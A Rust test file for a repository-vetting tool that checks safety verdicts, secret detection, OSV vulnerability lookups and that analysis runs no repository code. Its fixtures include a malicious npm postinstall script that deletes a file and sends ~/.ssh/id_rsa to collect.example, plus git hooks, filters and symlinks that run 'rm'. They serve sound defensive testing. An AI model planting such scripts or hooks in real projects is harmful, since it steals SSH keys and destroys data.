//! What reports say, and that making one runs nothing.

use serde_json::{Value, json};

use super::{MIT, Repository, check, good, program, report, sandbox, settings};
use crate::support::{Home, put};

#[test]
fn a_good_crate_is_safe_and_scores_the_same_twice() {
    let home = Home::new();
    let good = good(&home);
    let first = report(&home, &good);
    assert_eq!(first["securityVerdict"], "SAFE", "{first:#}");
    assert_eq!((&first["repoName"], &first["license"]), (&json!("good"), &json!("MIT")));
    assert_eq!((&first["language"], &first["stars"]), (&json!("Rust"), &Value::Null));
    let keys: Vec<&String> = first.as_object().unwrap().keys().take(11).collect();
    assert_eq!(
        keys,
        [
            "repoUrl",
            "repoName",
            "stars",
            "license",
            "language",
            "securityScore",
            "securityVerdict",
            "buildResult",
            "testResult",
            "usageNotes",
            "verifiedAt",
        ]
    );
    assert_eq!(first["facts"]["commitsLastYear"], 30);
    assert_eq!(first["facts"]["contributorsLastYear"], 3);
    assert_eq!(first["facts"]["firstCommitAtLeast"], false);
    assert_eq!(first["facts"]["latestTag"], "v0.1.0");
    assert_eq!(first["commit"].as_str().unwrap().len(), 40);
    // What was not seen is said.
    assert_eq!(check(&first, "vulnerabilities")["score"], Value::Null);
    let unseen = first["usageNotes"].as_str().unwrap().split("Not checked").nth(1).unwrap();
    assert!(unseen.contains("vulnerabilities"), "{unseen}");
    if sandbox() {
        assert_eq!(first["buildResult"], "BUILD_SUCCESS", "{}", first["facts"]);
        assert_eq!(first["testResult"], "TEST_PASS", "{}", first["facts"]);
    }
    let second = report(&home, &good);
    assert_eq!(second["securityScore"], first["securityScore"]);
    assert_eq!(second["checks"], first["checks"]);
    let path = good.path.to_str().unwrap();
    let readable = program(&home, &["oss", path]).output().unwrap();
    let readable = String::from_utf8(readable.stdout).unwrap();
    assert!(!readable.contains("SAFE"), "{readable}");
    for expected in
        ["no red flags found (", "MIT", "30 commits by 3 people", "10/10  secrets", "not examined"]
    {
        assert!(readable.contains(expected), "{expected} is not in {readable}");
    }
}

#[test]
fn a_leaked_key_is_a_hard_stop() {
    let home = Home::new();
    settings(&home, "build = false\n");
    let leaky = good(&home);
    // In two halves, so that nobody takes this file for a leak.
    let key = ["AKIAQ3EGR", "7TZMKW5PLXB"].concat();
    leaky.file("config/prod.ini", format!("region = eu\n\nkey = {key}\n"));
    leaky.commit(31, "ann@example.org");
    let found = report(&home, &leaky);
    assert_eq!(found["securityVerdict"], "AVOID", "{found:#}");
    let evidence = &check(&found, "secrets")["evidence"][0];
    assert_eq!((&evidence["file"], &evidence["line"]), (&json!("config/prod.ini"), &json!(3)));
    assert!(found["usageNotes"].as_str().unwrap().contains("config/prod.ini:3"), "{found}");
    assert!(!found.to_string().contains(&key), "the report repeats the secret");
    assert_eq!(found["buildResult"], "BUILD_SKIPPED");
}

#[test]
fn a_malicious_postinstall_is_a_hard_stop_and_never_runs() {
    let home = Home::new();
    let canary = home.dir.path().join("canary");
    put(&canary, "alive");
    let package = "{\n  \"name\": \"left\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\"\n  }\n}\n";
    let script = format!(
        "const fs = require('fs');\nfs.unlinkSync('{}');\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\nrequire('https').request('https://collect.example/').end(key);\n",
        canary.display()
    );
    let evil = Repository::new(
        &home,
        "left",
        &[("package.json", package), ("scripts/setup.js", &script), ("LICENSE", MIT)],
    );
    let found = report(&home, &evil);
    assert_eq!(found["securityVerdict"], "AVOID", "{found:#}");
    let evidence = &check(&found, "install-scripts")["evidence"][0];
    assert_eq!((&evidence["file"], &evidence["line"]), (&json!("scripts/setup.js"), &json!(3)));
    assert!(found["usageNotes"].as_str().unwrap().contains("looks like malware"), "{found}");
    assert_eq!(std::fs::read_to_string(canary).unwrap(), "alive");
}

#[test]
fn dependencies_that_are_not_there_are_not_fetched() {
    let home = Home::new();
    let needy = Repository::new(
        &home,
        "needy",
        &[(
            "package.json",
            "{\"scripts\":{\"test\":\"true\"},\"dependencies\":{\"left-pad\":\"1\"}}",
        )],
    );
    let found = report(&home, &needy);
    assert_eq!(found["buildResult"], "BUILD_SKIPPED");
    let notes = found["usageNotes"].as_str().unwrap();
    assert!(notes.contains("would have to be downloaded"), "{notes}");
    assert!(notes.contains("it has no licence"), "{notes}");
    assert_eq!(check(&found, "locked-dependencies")["evidence"][0]["file"], "package.json");
}

#[test]
fn vulnerable_packages_are_found_in_a_dump() {
    let home = Home::new();
    let dump = home.dir.path().join("osv");
    std::fs::create_dir_all(&dump).unwrap();
    put(
        &dump.join("GHSA-test.json"),
        r#"{"id":"GHSA-test","affected":[{"package":{"ecosystem":"npm","name":"left-pad"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.3.1"}]}]}]}"#,
    );
    settings(&home, &format!("build = false\nosv = {:?}\n", dump.to_str().unwrap()));
    let old = Repository::new(
        &home,
        "old",
        &[
            ("package.json", "{\"dependencies\":{\"left-pad\":\"1.3.0\"}}"),
            (
                "package-lock.json",
                "{\"packages\":{\"node_modules/left-pad\":{\"version\":\"1.3.0\"}}}",
            ),
        ],
    );
    let found = report(&home, &old);
    let evidence = check(&found, "vulnerabilities")["evidence"][0].to_string();
    assert!(evidence.contains("GHSA-test") && evidence.contains("package-lock.json"), "{evidence}");
    let sources = found["sources"].to_string();
    assert!(sources.contains("OSV"), "{sources}");
}

#[test]
fn hooks_filters_links_and_submodules_do_nothing() {
    let home = Home::new();
    settings(&home, "build = false\n");
    let canary = home.dir.path().join("canary");
    put(&canary, "alive");
    let tricky = Repository::new(
        &home,
        "tricky",
        &[
            (".gitattributes", "* filter=evil\n"),
            (".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = file:///\n"),
            (".githooks/post-checkout", &format!("#!/bin/sh\nrm {}\n", canary.display())),
            ("LICENSE", MIT),
        ],
    );
    std::os::unix::fs::symlink(&canary, tricky.path.join("link.txt")).unwrap();
    std::os::unix::fs::symlink("/", tricky.path.join("everything")).unwrap();
    let hook = tricky.path.join(".git/hooks/post-checkout");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    put(&hook, format!("#!/bin/sh\nrm {}\n", canary.display()));
    tricky.git(&["config", "core.hooksPath", ".githooks"], 1, "a");
    let evil = format!("rm {}", canary.display());
    tricky.commit(1, "ann@example.org");
    tricky.git(&["config", "filter.evil.smudge", &evil], 1, "a");
    tricky.git(&["config", "uploadpack.packObjectsHook", &evil], 1, "a");
    let found = report(&home, &tricky);
    assert_eq!(found["facts"]["files"], 4, "{found:#}");
    assert_eq!(std::fs::read_to_string(canary).unwrap(), "alive");
}

#[test]
fn a_saved_link_knows_its_report() {
    use notewell::{app, domain::Timestamp, oss::Verdict, store::reports::StoredReport};
    let home = Home::new();
    let config = crate::support::config(&home.data());
    let library = app::App::open(config, Vec::new()).unwrap();
    library
        .store
        .reports
        .put(&StoredReport {
            repo: "https://github.com/owner/tool".into(),
            commit: "c".into(),
            verified: Timestamp(1),
            score: 78,
            verdict: "VERIFY".into(),
            json: "{}".into(),
        })
        .unwrap();
    for link in
        ["https://github.com/Owner/Tool", "http://www.github.com/owner/tool/tree/main#readme"]
    {
        let known = library.known_report(link).unwrap();
        assert_eq!(
            known,
            Some(app::oss::Summary { score: 78, verdict: Verdict::Verify }),
            "{link}"
        );
    }
    for link in ["https://github.com/owner/other", "https://example.org", "not a link"] {
        assert_eq!(library.known_report(link).unwrap(), None, "{link}");
    }
}

#[test]
fn an_empty_repository_is_not_praised() {
    let home = Home::new();
    for (name, files) in [
        ("readme", &[("README.md", "# Soon\n"), ("LICENSE", MIT)][..]),
        ("tiny", &[("main.py", "print(1)\n"), ("LICENSE", MIT)][..]),
        ("none", &[][..]),
    ] {
        let found = report(&home, &Repository::new(&home, name, files));
        assert_eq!(found["securityVerdict"], "VERIFY", "{name}: {}", found["usageNotes"]);
        assert!(
            found["securityScore"].as_u64().unwrap() < 60,
            "{name}: {}",
            found["securityScore"]
        );
        let notes = found["usageNotes"].as_str().unwrap();
        assert!(notes.contains("hardly any code to judge"), "{name}: {notes}");
        assert_eq!(check(&found, "credential-theft")["score"], Value::Null, "{name}");
    }
}

#[test]
fn a_build_that_does_not_exist_is_skipped() {
    let home = Home::new();
    let package = Repository::new(
        &home,
        "package",
        &[
            ("package.json", "{ \"scripts\": { \"test\": \"node --version\" } }\n"),
            ("LICENSE", MIT),
        ],
    );
    let found = report(&home, &package);
    assert_eq!(found["buildResult"], "BUILD_SKIPPED", "{found:#}");
    assert!(!found["usageNotes"].as_str().unwrap().contains("build succeeded"), "{found:#}");
    let notes = found["facts"]["buildNotes"].as_str().unwrap();
    let expected = if sandbox() && notes.contains("build script") {
        "skipped: no build script"
    } else {
        "skipped: "
    };
    assert!(notes.starts_with(expected), "{notes}");
}

#[test]
fn a_report_names_what_it_did_not_read() {
    let home = Home::new();
    settings(&home, "build = false\n");
    let mixed = good(&home);
    mixed.file("logo.png", b"\x89PNG\0\0");
    mixed.file("dist/app.js", "var a=1;".repeat(2000));
    mixed.file("data.sql", "x".repeat(2 << 20));
    mixed.file("src/server.erl", "-module(server).\n");
    mixed.file(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = https://example.invalid/x\n");
    mixed.commit(31, "ann@example.org");
    let found = report(&home, &mixed);
    let gaps = found["notExamined"].to_string();
    for gap in ["logo.png", "dist/app.js", "data.sql", "Erlang", "1 submodule", "older commits"] {
        assert!(gaps.contains(gap), "{gap} is not in {gaps}");
    }
}
